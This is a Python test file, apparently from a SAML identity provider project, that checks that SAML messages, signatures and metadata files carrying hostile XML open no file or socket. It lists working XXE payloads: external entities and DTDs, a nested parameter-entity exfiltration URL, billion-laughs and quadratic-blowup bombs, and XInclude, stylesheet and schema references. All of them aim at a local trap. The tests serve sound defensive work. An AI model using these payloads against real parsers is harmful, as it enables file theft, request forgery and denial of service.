# SPDX-License-Identifier: GPL-3.0-or-later
"""XML from outside opens no file and no connection, here and in metadata."""

import contextlib
import re
import socket
import subprocess
import time

import pytest
from lxml import etree

from pyidp import attack, site, sp
from pyidp.attack import ask, send, signed

SENTINEL = "sentinel-of-the-test"
BINDINGS = ("redirect", "post")
STRACE = ("strace", "-f", "-qq", "-e", "trace=open,openat,openat2,socket,"
          "connect,execve", "-s", "300")

# {file}, {address}: what must not be opened
BOMB = "<!DOCTYPE r [<!ENTITY a0 'x'>" + "".join(
    f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
DTDS = {
    "empty": "<!DOCTYPE r>",
    "external dtd file": "<!DOCTYPE r SYSTEM '{file}'>",
    "external dtd http": "<!DOCTYPE r SYSTEM '{address}'>",
    "external dtd public": "<!DOCTYPE r PUBLIC '-//x' '{address}'>",
    "internal entity": "<!DOCTYPE r [<!ENTITY e 'x'>]>",
    "external entity file": "<!DOCTYPE r [<!ENTITY e SYSTEM '{file}'>]>",
    "external entity http": "<!DOCTYPE r [<!ENTITY e SYSTEM '{address}'>]>",
    "parameter entity": "<!DOCTYPE r [<!ENTITY % p SYSTEM '{file}'> %p;]>",
    "parameter entity http":
        "<!DOCTYPE r [<!ENTITY % p SYSTEM '{address}'> %p;]>",
    "parameter entity nested":
        "<!DOCTYPE r [<!ENTITY % f SYSTEM '{file}'><!ENTITY % p "
        "\"<!ENTITY &#37; s SYSTEM '{address}?%f;'>\"> %p; %s;]>",
    "unparsed entity":
        "<!DOCTYPE r [<!NOTATION n SYSTEM '{file}'>"
        "<!ENTITY e SYSTEM '{file}' NDATA n>]>",
    "bomb": BOMB,
    "quadratic": f"<!DOCTYPE r [<!ENTITY e '{'x' * 9000}'>]>",
    "recursive": "<!DOCTYPE r [<!ENTITY e '&f;'><!ENTITY f '&e;'>]>",
    "default attribute":
        "<!DOCTYPE r [<!ATTLIST AuthnRequest ForceAuthn CDATA 'true'>]>",
    "id attribute": "<!DOCTYPE r [<!ATTLIST x y ID #IMPLIED>]>",
    "lower case": "<!doctype r>",
}
STYLE = "<?xml-stylesheet type='text/xsl' href='{address}'?>"
XINCLUDE = ("<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
            "href='{file}' parse='text'/>")
SCHEMA = ("xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' "
          "xsi:schemaLocation='urn:x {address} urn:y {file}'")


class Trap:
    """A file and a listening socket that nobody may touch."""

    def __init__(self, folder):
        self.file = folder / SENTINEL
        self.file.write_text("<!ENTITY e 'secret-of-the-file'>")
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.socket.settimeout(0)
        self.port = self.socket.getsockname()[1]

    def arm(self, text):
        return (text.replace("{file}", f"file://{self.file}")
                .replace("{address}",
                         f"http://127.0.0.1:{self.port}/{SENTINEL}"))

    def untouched(self):
        with pytest.raises(BlockingIOError):
            self.socket.accept()


@pytest.fixture(name="trap")
def set_trap(tmp_path):
    trap = Trap(tmp_path)
    yield trap
    trap.socket.close()


@pytest.fixture(scope="module", name="idp")
def start_idp():
    with attack.Target() as idp:
        idp.write(f"htdocs/{SENTINEL}.txt", "control")
        yield idp


@contextlib.contextmanager
def traced(idp, folder):
    """Yields a function that gives what the children opened so far."""
    out = folder / "strace.out"
    options = [option for child in idp.children()
               for option in ("-p", str(child))]
    tracer = subprocess.Popen([*STRACE, "-o", str(out), *options],
                              stderr=subprocess.PIPE)
    deadline = time.monotonic() + 30
    control = f"{SENTINEL}.txt"

    def opened():
        return out.read_text() if out.exists() else ""

    try:
        # until it sees a file that httpd itself opens
        while control not in opened():
            assert tracer.poll() is None, tracer.stderr.read()
            assert time.monotonic() < deadline, "strace sees nothing"
            idp.get("/" + control)
            time.sleep(0.02)
        yield opened
    finally:
        tracer.terminate()
        tracer.wait()
        tracer.stderr.close()


def messages(trap):
    """Messages with each of the above, with &e; used where it could be."""
    plain = ask().xml().decode()
    used = plain.replace("</samlp:AuthnRequest>",
                         "<samlp:Extensions><x>&e;</x></samlp:Extensions>"
                         "</samlp:AuthnRequest>")
    for dtd in DTDS.values():
        yield trap.arm(dtd) + plain
        yield trap.arm(dtd) + used
        yield "<?xml version='1.0' standalone='no'?>" + trap.arm(dtd) + used
        yield plain + trap.arm(dtd)
    yield trap.arm(STYLE) + plain
    yield used


def test_s11_messages_open_nothing(idp, trap, tmp_path):
    with traced(idp, tmp_path) as opened:
        before = len(opened())
        for text in messages(trap):
            for binding in BINDINGS:
                reply = send(idp, text, binding)
                assert "secret-of-the-file" not in reply.text
                idp.refuse(reply, r"\bmessage\b", 400)
        during = opened()[before:]
        assert idp.get(f"/{SENTINEL}.txt").status == 200
        deadline = time.monotonic() + 10
        while SENTINEL not in opened()[before + len(during):]:
            assert time.monotonic() < deadline, "strace has ended"
            time.sleep(0.02)
    assert SENTINEL not in during
    assert not re.search(r"socket\(|connect\(|execve\(", during), during
    trap.untouched()


def fresh_text():
    """A request that has not come before."""
    return ask().xml().decode()


def test_s11_harmless_looking_references_open_nothing(idp, trap, tmp_path):
    """Taken, since XInclude and schema locations mean nothing here."""
    with traced(idp, tmp_path) as opened:
        before = len(opened())
        for text in (
                fresh_text().replace(
                    "<samlp:AuthnRequest",
                    trap.arm(f"<samlp:AuthnRequest {SCHEMA}"), 1),
                fresh_text().replace(
                    "</samlp:AuthnRequest>", "<samlp:Extensions>"
                    + trap.arm(XINCLUDE) + "</samlp:Extensions>"
                    "</samlp:AuthnRequest>")):
            answer = idp.answer(send(idp, text))
            assert b"secret-of-the-file" not in answer.xml
        during = opened()[before:]
    assert SENTINEL not in during and "connect(" not in during
    trap.untouched()


@pytest.mark.parametrize("uri", [
    "{file}", "{address}", "", "#xpointer(/)", "#xpointer(id('x'))",
    "#xmlns(x=y)xpointer(/)", "data:text/plain,x", "ID", "./", "//x/y"])
def test_s11_references_of_signatures_open_nothing(idp, trap, tmp_path, uri):
    with traced(idp, tmp_path) as opened:
        before = len(opened())
        for path in ("{*}SignedInfo/{*}Reference", "{*}KeyInfo"):
            root = signed(attack.VAULT)
            found = root.find("{*}Signature")
            element = found.find(path)
            if path.endswith("KeyInfo"):
                element.append(etree.fromstring(trap.arm(
                    "<ds:RetrievalMethod URI='{file}' xmlns:ds='"
                    "http://www.w3.org/2000/09/xmldsig#'/>")))
                found.find("{*}SignatureValue").text = "AAAA"
            else:
                element.set("URI", trap.arm(uri))
            idp.refuse(send(idp, root), "signature", 403)
        during = opened()[before:]
    assert SENTINEL not in during and "connect(" not in during
    trap.untouched()


def metadata_files(trap):
    plain = sp.metadata("urn:odd", ["https://odd.example.org/acs"])
    head, _, body = plain.partition("\n")
    for name, dtd in DTDS.items():
        text = body.replace('entityID="urn:odd"', 'entityID="urn:&e;odd"')
        yield name, "\n".join([head, trap.arm(dtd), body])
        yield name, "\n".join([head, trap.arm(dtd), text])


def test_s11_metadata_with_a_dtd_fails_configtest(bench, trap, tmp_path):
    config = site.SMALLEST + "ConnectIdPMetadata conf/odd.xml\n"
    for name, text in metadata_files(trap):
        bench.write("conf/odd.xml", text)
        began = time.monotonic()
        status, said = bench.configtest(config)
        assert status != 0, f"{name} was accepted:\n{said}"
        assert "conf/odd.xml" in said, said
        assert time.monotonic() - began < 20, name
    trap.untouched()
    # and once more for what is opened
    bench.write("conf/odd.xml", list(metadata_files(trap))[6][1])
    command, environment = bench.command("test.conf", config, "-t")
    out = tmp_path / "strace.out"
    subprocess.run([*STRACE, "-o", str(out), *command], env=environment,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                   check=False, timeout=60)
    opened = out.read_text()
    assert "odd.xml" in opened
    assert SENTINEL not in opened
    assert f"htons({trap.port})" not in opened


@pytest.mark.parametrize("text", [XINCLUDE, STYLE])
def test_s11_metadata_includes_nothing(bench, trap, text):
    plain = sp.metadata("urn:odd", ["https://odd.example.org/acs"])
    bench.write("conf/odd.xml", plain.replace(
        "<md:EntityDescriptor", trap.arm(text) + "<md:EntityDescriptor", 1)
        if text is STYLE else plain.replace(
            "  <md:SPSSO", "<md:Extensions>" + trap.arm(text)
            + "</md:Extensions><md:SPSSO", 1))
    status, said = bench.configtest(
        site.SMALLEST + "ConnectIdPMetadata conf/odd.xml\n")
    assert status == 0, said
    trap.untouched()


def test_s11_metadata_of_another_form(bench):
    plain = sp.metadata("urn:odd", ["https://odd.example.org/acs"])
    body = plain.partition("\n")[2]
    deep = "".join(f"<x{n}>" for n in range(200)) + "".join(
        f"</x{n}>" for n in reversed(range(200)))
    wide = "<x " + " ".join(f"a{n}=''" for n in range(5000)) + "/>"
    for text in (
            "", "\0", "<", "<a/>", plain[:-20], plain.encode("utf-16"),
            plain + plain, body.replace("  <md:SPSSO", f"{deep}<md:SPSSO"),
            body.replace("  <md:SPSSO", f"{wide}<md:SPSSO"),
            body.replace("urn:odd", "x" * 2000),
            body.replace("urn:odd", ""), body.replace("urn:odd", "a&#10;b"),
            body.replace('index="0"', 'index="x"'),
            body.replace('index="0"', 'index="-1"')):
        bench.write("conf/odd.xml", text)
        status, said = bench.configtest(
            site.SMALLEST + "ConnectIdPMetadata conf/odd.xml\n")
        assert status != 0, f"accepted:\n{said}"
        assert "odd.xml" in said
